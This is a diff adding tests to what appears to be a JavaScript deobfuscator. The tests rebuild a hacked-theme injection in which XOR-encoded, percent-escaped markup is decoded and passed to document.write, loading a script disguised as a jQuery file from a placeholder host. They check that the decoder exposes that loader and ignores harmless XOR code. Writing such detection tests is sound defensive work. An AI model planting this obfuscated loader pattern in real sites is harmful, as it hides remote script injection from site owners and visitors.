@@ -243,6 +243,49 @@ def test_code_decoded_by_xor_with_a_key_the_script_holds_is_read() -> None:
         ("https://cdn.checkout-metrics.test/c.js", True)], decoded.urls
 
 
+def _xor_escaped(markup: str, key: int) -> str:
+    """`markup` as the hacked-theme injection writes it: percent-escaped whole, then each
+    character XORed with a one-byte key (`'` is `%` XORed with 2)."""
+    escaped = "".join(f"%{ord(c):02X}" for c in markup)
+    return "".join(chr(ord(c) ^ key) for c in escaped)
+
+
+XOR_WRITTEN = ('<script type="text/javascript" src="https://cdn.theme-assets.test/'
+               'jquery.min.php?ref=home"></script>')
+
+
+@pytest.mark.parametrize("decoder", [
+    "String.fromCharCode(a.charCodeAt(i)^{key})",
+    "String.fromCharCode({key} ^ a.charCodeAt(i))",
+    "String.fromCharCode((a.charCodeAt(i)) ^ {key})",
+])
+def test_markup_xored_with_a_constant_and_written_is_read(decoder: str) -> None:
+    """A hacked theme's injection: a string XORed with a constant, unescaped and written
+    (`b+=String.fromCharCode(a.charCodeAt(i)^2)}c=unescape(b);document.write(c)`). The key
+    is the code's number, so the decoder reads what is written and the script it loads."""
+    for key in (2, 5):
+        code = (f'var a="{_xor_escaped(XOR_WRITTEN, key)}";b="";c="";var clen;clen=a.length;'
+                f"for(i=0;i<clen;i++){{b+={decoder.format(key=key)}}}c=unescape(b);"
+                "document.write(c);")
+        decoded = decode_script(code)
+        assert XOR_WRITTEN in decoded.payloads
+        assert [(u.url, u.loaded) for u in decoded.urls] == [
+            ("https://cdn.theme-assets.test/jquery.min.php?ref=home", True)], decoded.urls
+
+
+@pytest.mark.parametrize("code", [
+    # a string hash over a long literal: the constant XORs a sum, and no key reads the
+    # literal as markup or code
+    "var s='" + "Zm9vYmFyYmF6cXV4" * 20 + "',h=5381;for(var i=0;i<s.length;i++)"
+    "{h=(h*33)^s.charCodeAt(i);}h=h^255;",
+    # a constant-XOR decoder whose literal reads as prose, not markup or code
+    'var a="' + "".join(chr(ord(c) ^ 2) for c in "thanks for reading our newsletter " * 8)
+    + '",b="";for(i=0;i<a.length;i++){b+=String.fromCharCode(a.charCodeAt(i)^2)}alert(b);',
+])
+def test_constant_xor_that_hides_no_markup_or_code_is_not_read(code: str) -> None:
+    assert deobfuscate._xor_constant(code) is None
+
+
 def test_unpack_round_trip() -> None:
     assert unpack(packed(LOADER)) == LOADER
 
